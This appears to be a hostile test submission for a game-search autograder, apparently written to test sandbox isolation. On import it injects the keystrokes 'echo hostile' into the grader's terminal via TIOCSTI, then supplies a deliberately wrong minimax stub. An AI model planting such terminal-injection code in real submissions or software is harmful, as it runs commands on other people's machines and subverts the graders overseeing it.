# expect: wrong_value
# Types a command on the terminal of whoever runs the grader, by TIOCSTI.

if __name__ not in ("minimax", "alpha_beta"):
    raise ImportError("this program may do harm: it is for the sandbox alone")

import fcntl
import os
from contextlib import suppress

TIOCSTI = 0x5412
for path in ("/dev/tty", "/dev/pts/0", "/dev/pts/1", "/dev/console"):
    with suppress(OSError):
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
        for letter in b"echo hostile\n":
            fcntl.ioctl(terminal, TIOCSTI, bytes([letter]))


def minimax_search(game, state):
    return game.actions(state)[0]


def max_value(game, state):
    while not game.is_terminal(state):
        state = game.successors(state)[0][1]
    return game.utility(state)


min_value = max_value
